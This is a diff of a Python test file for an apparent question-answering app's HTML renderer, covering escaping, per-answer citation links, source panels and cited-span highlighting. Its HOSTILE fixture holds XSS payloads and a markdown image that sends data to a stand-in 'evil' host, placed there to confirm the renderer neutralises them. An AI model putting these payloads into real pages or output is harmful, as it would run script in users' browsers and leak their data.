@@ -1,6 +1,6 @@
 """What the app shows: document and model text is escaped; only our own markup gets through."""
 
-from qa.render import answer_html, answer_json, escape_text, sources_html
+from qa.render import answer_html, answer_json, document_html, escape_text, reply_html, sources_html
 from qa.types import Answer, Chunk, Citation, Passage
 
 HOSTILE = '<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) ![i](http://evil/leak?d=1)'
@@ -18,9 +18,20 @@ def test_hostile_text_is_inert():
 
 
 def test_markers_become_links_only_for_shown_passages():
-    html = answer_html("Signed in 1965 [1]. Also [3]. <b>x</b>", passages_shown=2)
-    assert '<a class="cite" href="#src-1" data-marker="1">[1]</a>' in html
-    assert "#src-3" not in html and "<b>" not in html
+    html = answer_html("Signed in 1965 [1]. Also [3]. <b>x</b>", passages_shown=2, answer_id="a7")
+    assert '<a class="cite" href="#a7-src-1" data-answer="a7" data-marker="1">[1]</a>' in html
+    assert "src-3" not in html and "<b>" not in html
+
+
+def test_each_answer_links_to_its_own_sources_and_previews_the_quote():
+    quote = 'The rocks are called "Dokdo" <b>.'
+    p = passage(quote, 1)
+    answer = Answer("q", f"{quote} [1]", (Citation(1, "c1", quote, 0, len(quote)),), (p,), False, "generative", "m")
+    first, second = reply_html(answer, "a1"), reply_html(answer, "a2")
+    assert 'href="#a1-src-1"' in first and 'href="#a2-src-1"' in second and "a1" not in second
+    assert 'title="The rocks are called &quot;Dokdo&quot; &lt;b&gt;."' in first  # the hover preview, escaped
+    panel = sources_html(answer, lambda c: "T", answer_id="a2")
+    assert 'data-answer="a2"' in panel and 'id="a2-src-1"' in panel and 'id="a1-src-1"' not in panel
 
 
 def test_sources_panel_highlights_the_cited_span_and_collapses_the_rest():
@@ -32,12 +43,24 @@ def test_sources_panel_highlights_the_cited_span_and_collapses_the_rest():
         "What are they called?", f"{quote} [1]", (Citation(1, "c1", quote, start, start + len(quote)),),
         (cited, passage("Other passage <script>x</script>", 2, 900)), False, "evidence", "m", query="rocks called (Dokdo)",
     )
-    html = sources_html(answer, lambda c: "Japan–South Korea relations", show_scores=True)
-    assert '<div class="source" id="src-1"' in html and f"<mark>{quote}</mark>" in html
+    html = sources_html(answer, lambda c: "Japan–South Korea relations", show_details=True, answer_id="a")
+    assert '<div class="source" id="a-src-1"' in html and f"<mark>{quote}</mark>" in html
     assert "characters 100–" in html and "Disputes › Liancourt Rocks" in html
-    assert "<details><summary>Other retrieved passages (1)</summary>" in html and 'id="src-2"' in html
+    assert "<details><summary>Other retrieved passages (1)</summary>" in html and 'id="a-src-2"' in html
     assert "<script" not in html and "<img" not in html and "fused 0.0300" in html
     assert "Searched for: <q>rocks called (Dokdo)</q>" in html
+    assert f'data-doc="d" data-start="{start}" data-end="{start + len(quote)}"' in html  # opens at the quote
+    calm = sources_html(answer, lambda c: "T")
+    assert "characters" not in calm and "fused" not in calm  # offsets and scores only with details
+
+
+def test_document_view_highlights_the_span_and_escapes_the_text():
+    text = "Intro <script>x</script>.\nThe rocks are called Dokdo. Tail."
+    start = text.index("The rocks")
+    html = document_html("T <i>", text, start, start + 27, page=3)
+    assert '<mark id="cited">The rocks are called Dokdo.</mark>' in html
+    assert "<script>" not in html and "&lt;script&gt;" in html and "T &lt;i&gt;" in html and "page 3" in html
+    assert '<mark id="cited"></mark>' in document_html("T", "abc", 10, 20)  # offsets past the end: nothing breaks
 
 
 def test_answer_json_matches_the_cli_contract():
